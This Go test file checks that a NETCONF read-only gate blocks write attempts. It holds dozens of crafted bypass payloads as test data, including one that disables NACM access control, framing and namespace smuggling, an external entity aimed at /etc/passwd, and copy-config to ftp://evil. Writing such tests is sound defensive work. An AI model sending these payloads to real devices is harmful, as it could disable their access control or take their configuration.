package netconf

import (
	"encoding/xml"
	"io"
	"strings"
	"testing"
)

// try is one attempt to have a device do more than read. Its stream is sent
// after a hello; where passes is set, it only looks like one.
type try struct {
	name, stream string
	chunked      bool
	passes       bool
}

// evil is what must not reach a device: it would change its configuration.
const evil = `<edit-config><target><running/></target><config><nacm xmlns="urn:ietf:params:xml:ns:yang:ietf-netconf-acm"><enable-nacm>false</enable-nacm></nacm></config></edit-config>`

func chunks(messages ...string) string {
	b := strings.Builder{}
	for _, m := range messages {
		for _, part := range frame(true, []byte(m)) {
			b.Write(part)
		}
	}
	return b.String()
}

// tries is the list. A right to get and get-config is all there is.
func tries() []try {
	const base = `xmlns="` + baseSpace + `"`
	const nc = `xmlns:nc="` + baseSpace + `"`
	wrap := func(attrs, body string) string { return `<rpc ` + attrs + ` message-id="1">` + body + `</rpc>` }
	plain := func(body string) string { return rpc("1", body) + endOfMessage }
	inner := strings.TrimSuffix(strings.TrimPrefix(evil, "<edit-config>"), "</edit-config>")
	prefixed := strings.NewReplacer("<edit", "<nc:edit", "</edit", "</nc:edit", "<target", "<nc:target", "</target", "</nc:target", "<running", "<nc:running", "<config", "<nc:config", "</config", "</nc:config").Replace(evil)
	whole := rpc("1", evil)
	return []try{
		{name: "plainly", stream: plain(evil)},
		{name: "a prefix", stream: `<nc:rpc ` + nc + ` message-id="1">` + prefixed + `</nc:rpc>` + endOfMessage},
		{name: "a prefix for the operation only", stream: `<rpc ` + base + ` ` + nc + ` message-id="1">` + prefixed + `</rpc>` + endOfMessage},
		{name: "no namespace", stream: wrap("", evil) + endOfMessage},
		{name: "the operation without a namespace", stream: `<nc:rpc ` + nc + ` message-id="1">` + evil + `</nc:rpc>` + endOfMessage},
		{name: "the namespace taken back", stream: plain(strings.Replace(evil, "<edit-config>", `<edit-config xmlns="">`, 1))},
		{name: "another namespace", stream: plain(strings.Replace(evil, "<edit-config>", `<edit-config xmlns="urn:x">`, 1))},
		{name: "get of another namespace is another operation", stream: plain(`<get xmlns="urn:x"/>`)},
		{name: "get-config as a prefix", stream: `<rpc ` + base + ` xmlns:get-config="` + baseSpace + `" message-id="1"><get-config:edit-config>` + inner + `</get-config:edit-config></rpc>` + endOfMessage},
		{name: "a namespace with a reference", stream: wrap(`xmlns="urn:ietf:params:xml:ns:netconf:base:1&#46;0"`, evil) + endOfMessage},
		{name: "a namespace with a blank", stream: wrap(`xmlns=" `+baseSpace+`"`, evil) + endOfMessage},
		{name: "a namespace in upper case", stream: wrap(`xmlns="`+strings.ToUpper(baseSpace)+`"`, evil) + endOfMessage},
		{name: "two default namespaces", stream: wrap(base+` xmlns="urn:x"`, evil) + endOfMessage},
		{name: "an undeclared prefix", stream: plain(`<x:get/>` + evil)},
		{name: "the prefix xml", stream: wrap(base+` xmlns:xml="`+baseSpace+`"`, "<xml:edit-config>"+inner+"</xml:edit-config>") + endOfMessage},
		{name: "two operations", stream: plain("<get/>" + evil)},
		{name: "two operations, the other first", stream: plain(evil + "<get/>")},
		{name: "two rpcs in one message", stream: rpc("1", "<get/>") + whole + endOfMessage},
		{name: "two rpcs, the second after a declaration", stream: rpc("1", "<get/>") + `<?xml version="1.0"?>` + whole + endOfMessage},
		{name: "an rpc in an rpc", stream: plain(whole)},
		{name: "an rpc in a get", stream: plain("<get>" + whole + "</get>")},
		{name: "an rpc in a filter", stream: plain("<get><filter>" + whole + "</filter></get>")},
		{name: "an rpc without a namespace in a filter", stream: plain(`<get><filter><rpc xmlns="">` + evil + "</rpc></filter></get>")},
		{name: "a comment around get", stream: plain("<!--><get/><!-->" + evil + "<!-- -->")},
		{name: "a comment that ends twice", stream: plain("<!-- <get/> --> -->" + evil)},
		{name: "a comment with two dashes", stream: plain("<!-- -- --><get/><!-- --" + evil + " -->")},
		{name: "a comment that does not end", stream: plain("<get/><!-- " + evil)},
		{name: "an early end of a comment", stream: plain("<!--->" + evil + "<!-- --><get/>")},
		{name: "CDATA around the first operation", stream: plain("<![CDATA[<get/>]]>" + evil)},
		{name: "CDATA after the operation", stream: plain("<get/><![CDATA[" + evil + "]]>")},
		{name: "CDATA that ends in the text", stream: plain("<get><filter>]]>" + evil + "</filter></get>")},
		{name: "a processing instruction", stream: plain("<?x ?><get/><?x " + evil + "?>")},
		{name: "a second declaration", stream: `<?xml version="1.0"?><?xml version="1.0"?>` + whole + endOfMessage},
		{name: "an entity for the operation", stream: `<!DOCTYPE rpc [<!ENTITY e "edit-config">]>` + wrap(base, "<get>&e;</get>") + endOfMessage},
		{name: "an external entity", stream: `<!DOCTYPE rpc SYSTEM "file:///etc/passwd">` + wrap(base, "<get/>") + endOfMessage},
		{name: "an unknown entity", stream: plain("<get>&edit;</get>")},
		{name: "upper case", stream: plain(strings.ToUpper(evil))},
		{name: "an operation in mixed case", stream: plain(strings.ReplaceAll(evil, "edit-config", "Edit-Config"))},
		{name: "UTF-16", stream: "\xff\xfe" + strings.Join(strings.Split(whole, ""), "\x00") + "\x00" + endOfMessage},
		{name: "another encoding", stream: `<?xml version="1.0" encoding="UTF-7"?>` + whole + endOfMessage},
		{name: "EBCDIC", stream: `<?xml version="1.0" encoding="ebcdic-cp-us"?>` + rpc("1", "<get/>") + endOfMessage},
		{name: "XML 1.1", stream: `<?xml version="1.1"?>` + rpc("1", "<get/>") + endOfMessage},
		{name: "not UTF-8", stream: plain("<get\xc0\xbe><filter/>" + evil + "</get\xc0\xbe>")},
		{name: "a control character", stream: plain("<get/\x00>" + evil)},
		{name: "an attribute twice", stream: wrap(base+` message-id="0"`, "<get/>") + endOfMessage},
		{name: "an attribute twice by two prefixes", stream: wrap(base+` xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2"`, "<get/>") + endOfMessage},
		{name: "an end of the tag in an attribute", stream: plain(`<get a="/><edit-config>` + "'" + `<">` + evil + `</get>`)},
		{name: "no message-id", stream: `<rpc ` + base + `>` + evil + `</rpc>` + endOfMessage},
		{name: "an end tag of another", stream: plain("<get></edit-config>" + evil)},
		{name: "blanks in tags", stream: plain("<get ></get\n>" + strings.Replace(evil, "<edit-config>", "<edit-config\t\n>", 1))},
		{name: "a blank before the name", stream: plain("< get/>" + evil)},
		{name: "no parent", stream: evil + endOfMessage},
		{name: "copy-config to a url", stream: plain(`<copy-config><target><url>ftp://evil/x</url></target><source><running/></source></copy-config>`)},
		{name: "copy-config from a url", stream: plain(`<copy-config><target><running/></target><source><url>ftp://evil/x</url></source></copy-config>`)},
		{name: "an action of YANG 1.1", stream: plain(`<action xmlns="urn:ietf:params:xml:ns:yang:1"><server xmlns="urn:x"><reset/></server></action>`)},
		{name: "kill-session", stream: plain(`<kill-session><session-id>1</session-id></kill-session>`)},
		{name: "commit", stream: plain(`<commit/>`)},
		{name: "an operation of the device's maker", stream: plain(`<request-reboot xmlns="http://xml.juniper.net/junos/20.4R0/junos"/>`)},
		{name: "get-config with two sources", stream: plain(`<get-config><source><running/></source><source><candidate/></source></get-config>`)},
		{name: "get-config with a target", stream: plain(`<get-config><source><running/><target><running/></target></source></get-config>`)},
		{name: "get-config with a source of another namespace", stream: plain(`<get-config><source xmlns="urn:x"><running/></source></get-config>`)},
		{name: "get-config with text at the datastore", stream: plain(`<get-config><source>x<running/></source></get-config>`)},
		{name: "a second hello", stream: hello11 + endOfMessage + plain(evil)},
		{name: "the end of a message in a comment", stream: plain("<get/><!-- ]]>]]>" + whole + " -->")},
		{name: "the end of a message in an attribute", stream: chunks(rpc("1", `<get a="]]>]]>`+whole+`"/>`)), chunked: true},
		{name: "the old end of a message in a chunk", stream: chunks(rpc("1", "<get/><!-- ]]>]]>"+whole+"]]>]]> -->")), chunked: true},
		{name: "the old end of a message in CDATA", stream: chunks(rpc("1", "<get><filter><![CDATA[]]>]]>"+whole+"]]>]]></filter></get>")), chunked: true},
		{name: "the old framing among chunks", stream: chunks(rpc("1", "<get/>")) + whole + endOfMessage, chunked: true},
		{name: "a chunk that is too short", stream: "\n#10\n" + rpc("1", "<get/>") + "\n##\n" + chunks(whole), chunked: true},
		{name: "a chunk that is too long", stream: "\n#9999\n" + rpc("1", "<get/>") + "\n##\n" + chunks(whole), chunked: true},
		{name: "a size with a zero", stream: "\n#0" + itoa(len(whole)) + "\n" + whole + "\n##\n", chunked: true},
		{name: "chunks of one byte", stream: oneByOne(whole), chunked: true},
		{name: "two operations in two chunks", stream: "\n#" + itoa(len(rpc("1", "<get/>"))) + "\n" + rpc("1", "<get/>") + "\n#" + itoa(len(whole)) + "\n" + whole + "\n##\n", chunked: true},
		{name: "chunks in the old framing", stream: chunks(rpc("1", "<get/>")) + chunks(whole) + plain("<get/>")},
		{name: "nesting without end", stream: plain("<get>" + strings.Repeat("<a>", 100_000))},
		{name: "many attributes", stream: plain("<get " + strings.Repeat(` a="1"`, 1000) + "/>")},

		{name: "edit-config as data of a filter", stream: plain(`<get><filter type="subtree">` + evil + `</filter></get>`), passes: true},
		{name: "edit-config in a comment", stream: plain(`<!-- ` + evil + ` --><get/>`), passes: true},
		{name: "edit-config in CDATA of a filter", stream: plain(`<get><filter><![CDATA[` + evil + `]]></filter></get>`), passes: true},
		{name: "what looks like the end of chunks", stream: chunks(rpc("1", "<get><filter>\n##\n\n#5\n</filter></get>")), chunked: true, passes: true},
		{name: "a byte order mark", stream: "\ufeff" + `<?xml version='1.0' encoding='utf-8' standalone='yes' ?>` + "\n" + plain("<get/>"), passes: true},
	}
}

func oneByOne(m string) string {
	b := strings.Builder{}
	for i := range len(m) {
		b.WriteString("\n#1\n" + m[i:i+1])
	}
	return b.String() + "\n##\n"
}

// onlyReads checks, with another parser, that a message can be taken for
// nothing but one get or get-config, also by one that knows no namespaces.
func onlyReads(message string) bool {
	d := xml.NewDecoder(strings.NewReader(message))
	depth, operations := 0, 0
	for {
		t, err := d.Token()
		if err == io.EOF {
			return depth == 0 && operations == 1
		}
		if err != nil {
			return false
		}
		switch e := t.(type) {
		case xml.StartElement:
			depth++
			if depth == 1 && e.Name != (xml.Name{Space: baseSpace, Local: "rpc"}) {
				return false
			}
			if depth == 2 {
				operations++
				if e.Name.Space != baseSpace || e.Name.Local != "get" && e.Name.Local != "get-config" {
					return false
				}
			}
			if depth > 1 && e.Name.Local == "rpc" && (e.Name.Space == baseSpace || e.Name.Space == "") {
				return false
			}
		case xml.EndElement:
			depth--
		case xml.ProcInst:
			if depth > 0 || e.Target != "xml" {
				return false
			}
		case xml.Directive:
			return false
		}
	}
}

func TestNoEscape(t *testing.T) {
	if n := len(tries()); n < 40 {
		t.Fatalf("%d tries", n)
	}
	for _, try := range tries() {
		t.Run(try.name, func(t *testing.T) {
			s := start(t, "get,get-config", try.chunked)
			s.send(try.stream)
			got, _ := s.finish()
			for _, m := range got {
				if !onlyReads(m) {
					t.Errorf("the device got %q", m)
				}
			}
			out := strings.TrimPrefix(s.client.Output(), s.framedHello())
			if try.passes != (len(got) == 1 && out == "") {
				t.Errorf("the device got %q, the client %q", got, out)
			}
			if !try.passes && !strings.Contains(out, "<rpc-error") && !strings.Contains(try.stream, "#9999") {
				t.Errorf("the client was not told: %q", out)
			}
		})
	}
}

func (s *scene) framedHello() string {
	if s.chunked {
		return hello11 + endOfMessage
	}
	return hello10 + endOfMessage
}

// FuzzGate: whatever a client sends that may only read, the device gets
// messages that only read.
func FuzzGate(f *testing.F) {
	for _, try := range tries() {
		f.Add(try.stream, try.chunked, uint16(len(try.stream)/2))
	}
	f.Fuzz(func(t *testing.T, stream string, chunked bool, cut uint16) {
		s := start(t, "get,get-config", chunked)
		at := min(int(cut), len(stream))
		s.send(stream[:at])
		s.send(stream[at:])
		got, _ := s.finish()
		for _, m := range got {
			if !onlyReads(m) {
				t.Errorf("the device got %q", m)
			}
		}
	})
}

// FuzzParse: what is parsed has the same operation for another parser, and
// another way to cut it into chunks changes nothing.
func FuzzParse(f *testing.F) {
	for _, try := range tries() {
		f.Add([]byte(strings.TrimSuffix(try.stream, endOfMessage)))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		m, err := parse(b)
		readAnswer(b)
		if err != nil {
			if reply := err.(*refusal).reply(m, true); !wellFormed(string(reply)) {
				t.Errorf("%q is answered with %q", b, reply)
			}
			return
		}
		if !wellFormed(string(b)) {
			t.Errorf("%q is taken, and not well-formed", b)
		}
	})
}

func wellFormed(message string) bool {
	d := xml.NewDecoder(strings.NewReader(strings.TrimPrefix(message, "\ufeff")))
	for {
		if _, err := d.Token(); err != nil {
			return err == io.EOF
		}
	}
}
